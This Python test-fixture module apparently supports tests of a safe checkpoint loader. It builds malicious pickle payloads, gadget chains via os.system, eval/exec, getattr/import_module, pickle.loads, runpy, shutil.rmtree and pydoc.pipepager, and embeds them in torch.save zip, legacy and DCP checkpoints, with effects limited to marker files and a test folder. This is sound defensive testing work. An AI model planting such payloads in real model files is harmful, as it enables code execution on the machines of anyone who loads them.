"""Malicious pickles: real exploits (each proves it fired by a marker file) and real
checkpoints (torch.save zip, legacy stream, DCP folder) that carry them."""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from helpers import rewrite_zip, write_dcp

# ------------------------------------------------------------ malicious pickles


class Reduce:
    """An object that pickles as ``func(*args)``; ``func`` may itself be a Reduce."""

    def __init__(self, func: Any, args: tuple = ()):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)

    def __call__(self, *args: Any) -> None:  # pickle insists the reduce callable be callable
        raise AssertionError("never called while pickling")


@dataclass
class Payload:
    """A malicious object, the globals a reader must name, and how to tell that it fired."""

    name: str
    obj: Any
    expected: tuple[str, ...]  # each must be named in the error message / .dangerous
    fired: Any  # callable () -> bool: True when the payload's side effect happened
    reset: Any  # callable () -> None: undo the side effect
    live: bool = True  # whether test_safety proves it fires under a real torch.load


def make_payloads(work: Path) -> dict[str, Payload]:
    """Every payload writes (or deletes) something under ``work`` when really unpickled."""
    import builtins
    import http.server
    import importlib
    import operator
    import pickle
    import pydoc
    import runpy
    import shutil
    import socket
    import subprocess as sp

    import torch

    work.mkdir(parents=True, exist_ok=True)

    out: dict[str, Payload] = {}

    def add(name, build, expected, live=True):
        marker = work / f"marker-{name}"
        reset = lambda: marker.unlink(missing_ok=True)  # noqa: E731
        out[name] = Payload(name, build(str(marker)), expected, marker.exists, reset, live)

    touch_code = "open({!r}, 'w').close()"
    add("os_system", lambda m: Reduce(os.system, (f"touch {m}",)), ("posix.system",))
    add("popen", lambda m: Reduce(sp.Popen, (["touch", m],)), ("subprocess.Popen",))
    add("eval", lambda m: Reduce(builtins.eval, (touch_code.format(m),)), ("builtins.eval",))
    add("exec", lambda m: Reduce(builtins.exec, (touch_code.format(m),)), ("builtins.exec",))
    add(
        "getattr_builtins_eval",  # getattr(__import__("builtins"), "eval")(code)
        lambda m: Reduce(
            Reduce(getattr, (Reduce(builtins.__import__, ("builtins",)), "eval")),
            (touch_code.format(m),),
        ),
        ("builtins.getattr", "builtins.__import__"),
    )
    add(
        "getattr_os_system",  # getattr(importlib.import_module("os"), "system")(cmd)
        lambda m: Reduce(
            Reduce(getattr, (Reduce(importlib.import_module, ("os",)), "system")),
            (f"touch {m}",),
        ),
        ("builtins.getattr", "importlib.import_module"),
    )
    add(
        "attrgetter",  # operator.attrgetter("system")(import_module("os"))(cmd)
        lambda m: Reduce(
            Reduce(operator.attrgetter("system"), (Reduce(importlib.import_module, ("os",)),)),
            (f"touch {m}",),
        ),
        ("operator.attrgetter", "importlib.import_module"),
    )
    add(
        "nested_pickle_loads",
        lambda m: Reduce(pickle.loads, (pickle.dumps(Reduce(os.system, (f"touch {m}",))),)),
        ("pickle.loads",),
    )

    def torch_load(m):
        inner = work / "inner-payload.pt"
        torch.save({"x": Reduce(os.system, (f"touch {m}",))}, inner)
        # torch.load(f, None, pickle) loads with weights_only=False (a pickle_module is given)
        return Reduce(torch.load, (str(inner), None, Reduce(importlib.import_module, ("pickle",))))

    add("torch_load", torch_load, ("torch.serialization.load",))

    def run_path(m):
        script = work / "payload_script.py"
        script.write_text(f"open({m!r}, 'w').close()\n")
        return Reduce(runpy.run_path, (str(script),))

    add("runpy", run_path, ("runpy.run_path",))

    victim = work / "victim"

    def make_victim():
        victim.mkdir(exist_ok=True)
        (victim / "keep.txt").write_text("precious")

    make_victim()
    out["shutil_rmtree"] = Payload(
        "shutil_rmtree",
        Reduce(shutil.rmtree, (str(victim),)),
        ("shutil.rmtree",),
        lambda: not (victim / "keep.txt").exists(),
        make_victim,
    )
    # socket.socket(AF_UNIX).bind(path) creates a socket file at path
    add(
        "socket",
        lambda m: Reduce(Reduce(getattr, (Reduce(socket.socket, (socket.AF_UNIX,)), "bind")), (m,)),
        ("socket.socket",),
    )
    # pydoc.pipepager(text, cmd) runs cmd in a shell
    add("pydoc_pipepager", lambda m: Reduce(pydoc.pipepager, ("", f"touch {m}")), ("pipepager",))
    # torch.save pickles with protocol 2, which writes Python 2 module names: http.server
    # becomes SimpleHTTPServer/CGIHTTPServer, and the real unpickler maps them back.
    # http.server.test() would serve the current folder to the network (never run here).
    add(
        "py2_alias_http_server",
        lambda m: Reduce(http.server.test, ()),
        ("http.server.test",),
        live=False,
    )
    return out


# ------------------------------------------- malicious checkpoints, three ways

MALICIOUS_KINDS = ("torch-zip", "torch-legacy", "dcp")


def _weight():
    import torch

    return torch.arange(12, dtype=torch.float32).reshape(3, 4)


class _Storage:
    """Pickled as torch's persistent id for storage ``key`` (FloatStorage, cpu)."""

    def __init__(self, key: str, numel: int):
        self.key, self.numel = key, numel


def torch_pickle_bytes(obj: Any) -> bytes:
    """Pickle ``obj`` the way torch.save writes data.pkl (protocol 2, storages as ids)."""
    import io
    import pickle

    import torch

    class TorchPickler(pickle.Pickler):
        def persistent_id(self, o):
            if isinstance(o, _Storage):
                return ("storage", torch.FloatStorage, o.key, "cpu", o.numel)
            return None

    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def lazy_tensor(key: str, shape: tuple, numel: int) -> Reduce:
    """A pickled ``torch._utils._rebuild_tensor_v2`` call on storage ``key`` (contiguous)."""
    import collections

    import torch

    stride, acc = [], 1
    for n in reversed(shape):
        stride.insert(0, acc)
        acc *= n
    return Reduce(
        torch._utils._rebuild_tensor_v2,
        (_Storage(key, numel), 0, tuple(shape), tuple(stride), False, collections.OrderedDict()),
    )


def write_malicious_zip(path: Path, evil: Any) -> None:
    """A real torch.save zip whose ``*/data.pkl`` is replaced by one holding ``evil``."""
    import torch

    base = path.with_name(path.name + ".base")
    w = _weight()
    torch.save({"w": w}, base)
    data = torch_pickle_bytes({"w": lazy_tensor("0", tuple(w.shape), w.numel()), "x": evil})
    rewrite_zip(base, path, lambda name, old: data if name.endswith("/data.pkl") else None)
    base.unlink()


def write_malicious_legacy(path: Path, evil: Any) -> None:
    """A legacy (pre-1.6) torch.save stream whose main pickle holds ``evil``."""
    import torch

    torch.save({"w": _weight(), "x": evil}, path, _use_new_zipfile_serialization=False)


def write_malicious_dcp(folder: Path, evil: Any) -> None:
    """A real DCP folder whose ``.metadata`` pickle also holds ``evil`` (in planner_data)."""
    import pickle

    import torch.distributed.checkpoint as dcp

    write_dcp(folder, {"model": {"w": _weight()}, "step": 3})
    metadata = dcp.FileSystemReader(str(folder)).read_metadata()
    metadata.planner_data = dict(metadata.planner_data or {}, __evil__=evil)
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


WRITERS = {
    "torch-zip": write_malicious_zip,
    "torch-legacy": write_malicious_legacy,
    "dcp": write_malicious_dcp,
}


@dataclass
class MaliciousFile:
    kind: str
    path: Path
    payload: Payload
